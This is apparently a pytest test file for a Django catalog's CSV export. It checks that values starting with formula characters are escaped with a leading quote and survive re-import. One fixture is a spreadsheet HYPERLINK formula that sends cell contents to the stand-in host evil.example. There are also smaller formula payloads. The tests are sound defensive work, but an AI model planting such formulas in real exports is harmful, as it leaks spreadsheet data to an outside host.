"""CSV injection (OWASP): a value that a spreadsheet would read as a formula is exported as text.

Anyone who may export sees the file in a spreadsheet; a SKU named `=HYPERLINK(…)` must not arrive as
a live formula. Every exported column is given a hostile value for each character that starts a
formula (= + - @, tab, carriage return) and must come out prefixed with a single quote; a file
exported that way imports back to the same values.
"""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models

from catalog.models import Sku
from catalog.resources import SkuResource

pytestmark = pytest.mark.django_db

EXPORT_URL = "/admin/catalog/sku/export/"
IMPORT_URL = "/admin/catalog/sku/import/"
PROCESS_URL = "/admin/catalog/sku/process_import/"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
#: Columns whose database type cannot hold text, so no formula: a number and a boolean.
NOT_TEXT = {"weight": models.DecimalField, "allow_oversell": models.BooleanField}


def exported_columns() -> list[str]:
    return SkuResource().get_export_headers()


def hostile(trigger: str, column: str, number: int) -> str:
    """A formula starting with ``trigger``, as long as the column takes (its tail keeps rows distinct)."""
    max_length = Sku._meta.get_field(column).max_length or 1000
    tail = f"{number}" if column == "sku_id" else ""
    value = trigger + FORMULA.removeprefix("=")
    return value[: max_length - len(tail)] + tail


def export(client) -> list[dict]:
    fields = {f"skuresource_{name}": "on" for name in exported_columns()}
    response = client.post(EXPORT_URL, {"format": "0", "resource": "0", **fields})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))


def test_the_text_columns_are_every_exported_column_but_a_number_and_a_boolean():
    for column in exported_columns():
        field = Sku._meta.get_field(column)
        if column in NOT_TEXT:
            assert isinstance(field, NOT_TEXT[column])
        else:
            assert field.get_internal_type() in {"CharField", "TextField"}, (column, field)


def test_every_exported_column_with_a_formula_is_exported_as_text(merchandiser_client, sku_factory):
    text_columns = [column for column in exported_columns() if column not in NOT_TEXT]
    stored = {}
    for number, trigger in enumerate(TRIGGERS):
        sku = sku_factory(f"H-{number}")
        values = {column: hostile(trigger, column, number) for column in text_columns}
        Sku.objects.filter(pk=sku.pk).update(**values)  # past validation, as a raw database write could
        stored[values["sku_id"]] = values

    rows = export(merchandiser_client)

    assert len(rows) == len(TRIGGERS)
    for row in rows:
        values = stored[row["sku_id"].removeprefix("'")]
        for column in text_columns:
            assert row[column] == "'" + values[column], (column, row[column])
            assert row[column][1] in TRIGGERS  # the control: unescaped, the cell would be a formula


@pytest.mark.parametrize("library_setting", [True, False])
def test_the_resource_escapes_whatever_the_library_setting_says(settings, sku_factory, library_setting):
    """IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT (django-import-export 4.4) drops one leading '=' and
    nothing else ('==1+1' stays a formula; + - @ are untouched): the resource escapes by itself."""
    from import_export.formats.base_formats import CSV

    settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT = library_setting
    sku = sku_factory("L-1")
    Sku.objects.filter(pk=sku.pk).update(name="==1+1", part_number="+1+1", manufacturer_id="@SUM(A1)")
    text = CSV().export_data(SkuResource().export())
    assert "'==1+1" in text and "'+1+1" in text and "'@SUM(A1)" in text


def test_an_escaped_export_imports_back_unchanged(merchandiser_client, sku_factory):
    values = {
        "name": "=1+1",
        "description": "-5 degrees, +2 colours, @home",
        "part_number": "+PN",
        "manufacturer_id": "@M",
        "item_breadcrumb": "=Tools > Widgets",
    }
    sku_factory("R-1", **values)
    before = list(Sku.objects.values())
    fields = {f"skuresource_{name}": "on" for name in exported_columns()}
    exported = merchandiser_client.post(EXPORT_URL, {"format": "0", "resource": "0", **fields})
    assert "'=1+1" in exported.content.decode()

    upload = SimpleUploadedFile("export.csv", exported.content, content_type="text/csv")
    page = merchandiser_client.post(IMPORT_URL, {"import_file": upload, "format": "0", "resource": "0"})
    assert page.context["result"].totals["skip"] == 1, page.context["result"].totals
    merchandiser_client.post(PROCESS_URL, page.context["confirm_form"].initial)
    assert list(Sku.objects.values()) == before
